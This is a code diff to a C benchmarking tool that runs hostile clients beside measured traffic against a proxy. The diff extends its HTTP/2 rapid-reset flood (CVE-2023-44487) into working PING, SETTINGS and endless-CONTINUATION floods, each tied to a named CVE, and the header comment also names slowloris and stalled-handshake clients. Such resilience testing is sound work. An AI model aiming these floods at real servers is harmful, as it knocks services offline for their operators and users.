@@ -1,7 +1,8 @@
 /* Hostile clients beside the traffic, which differ with what it speaks:
  *   HTTP/1.1   slow heads (slowloris): a request is begun and never ended, with a byte every ten seconds
  *   TLS        the same with handshakes: a ClientHello that never ends
- *   HTTP/2     rapid resets (CVE-2023-44487): every tenth of a second a hundred requests, each reset at once
+ *   HTTP/2     every tenth of a second a hundred frames that cost a server more than their sender: rapid resets (CVE-2023-44487, each a request and
+ *              its reset), PINGs (CVE-2019-9512), SETTINGS (CVE-2019-9515), or CONTINUATIONs of a head that never ends (VU#421644)
  *
  * They are no part of what is counted. One that the proxy has closed is opened again when its next turn comes, as an attacker would.
  */
@@ -15,7 +16,7 @@
 
 #include "load.h"
 
-enum { MAX_SLOW = 16384, SLOW_SOURCES = 64, GROUP = 64, RESETS = 100 };
+enum { MAX_SLOW = 16384, SLOW_SOURCES = 64, GROUP = 64, FRAMES = 100, MAX_BATCH = FRAMES * 40 };
 
 static const char head[] = "GET /slow HTTP/1.1\r\nHost: bench.example\r\nUser-Agent: bench-peers/1\r\nX-Slow: ";
 
@@ -37,24 +38,45 @@ static bool is_open(int at)
     return slow[at] != NULL && slow[at]->role == SLOW && slow[at]->generation == generations[at];
 }
 
-/* A hundred requests for a byte, and their resets. */
-static bool send_resets(int at)
+/* Writes a frame; what follows it. */
+static uint8_t *put_frame(uint8_t *to, uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t length)
 {
-    static uint8_t batch[RESETS * (9 + 18 + 9 + 4)];
-    static const uint8_t fields[18] = "\x82\x86\x04\x04/1/0\x01\x08" "bench.ex";
+    const uint8_t header[9] = { 0, 0, (uint8_t)length, type, flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream };
+    memcpy(to, header, sizeof header);
+    memcpy(to + sizeof header, payload, length);
+    return to + sizeof header + length;
+}
+
+/* A hundred of what the flood is of; of a head that never ends, its beginning first where it is not there yet. */
+static bool send_flood(int at)
+{
+    static uint8_t batch[MAX_BATCH];
+    static const uint8_t request[18] = "\x82\x86\x04\x04/1/0\x01\x08" "bench.ex";
+    static const uint8_t endless[] = { 0, 1, 'x', 0x7f, 0x80, 0x80, 0x40 };      /* a field with a value of a million bytes */
     uint8_t *to = batch;
-    for (int i = 0; i < RESETS; i++, next_stream[at] += 2) {
-        const uint8_t id[4] = { (uint8_t)(next_stream[at] >> 24), (uint8_t)(next_stream[at] >> 16), (uint8_t)(next_stream[at] >> 8), (uint8_t)next_stream[at] };
-        memcpy(to, (const uint8_t[]){ 0, 0, sizeof fields, 1, 5 }, 5);
-        memcpy(to + 5, id, 4);
-        memcpy(to + 9, fields, sizeof fields);
-        to += 9 + sizeof fields;
-        memcpy(to, (const uint8_t[]){ 0, 0, 4, 3, 0 }, 5);
-        memcpy(to + 5, id, 4);
-        memcpy(to + 9, (const uint8_t[]){ 0, 0, 0, 8 }, 4);
-        to += 13;
+    if (beside.flood == CONTINUATIONS && next_stream[at] == 1) {
+        to = put_frame(to, 1, 1, 1, endless, sizeof endless);
+        next_stream[at] += 2;
     }
-    return send(slow[at]->fd, batch, sizeof batch, MSG_NOSIGNAL) == (ssize_t)sizeof batch;
+    for (int i = 0; i < FRAMES; i++) {
+        switch (beside.flood) {
+        case RESETS:
+            to = put_frame(to, 1, 5, next_stream[at], request, sizeof request);
+            to = put_frame(to, 3, 0, next_stream[at], "\0\0\0\x8", 4);
+            next_stream[at] += 2;
+            break;
+        case PINGS:
+            to = put_frame(to, 6, 0, 0, "12345678", 8);
+            break;
+        case SETTINGS:
+            to = put_frame(to, 4, 0, 0, "\0\3\0\0\0\x64", 6);
+            break;
+        case CONTINUATIONS:
+            to = put_frame(to, 9, 0, 1, "x", 1);
+            break;
+        }
+    }
+    return send(slow[at]->fd, batch, (size_t)(to - batch), MSG_NOSIGNAL) == to - batch;
 }
 
 static bool send_opening(const struct conn *c)
@@ -68,7 +90,7 @@ static bool send_opening(const struct conn *c)
 static bool act(int at)
 {
     if (beside.http2)
-        return send_resets(at);
+        return send_flood(at);
     send(slow[at]->fd, "x", 1, MSG_NOSIGNAL);
     return true;
 }
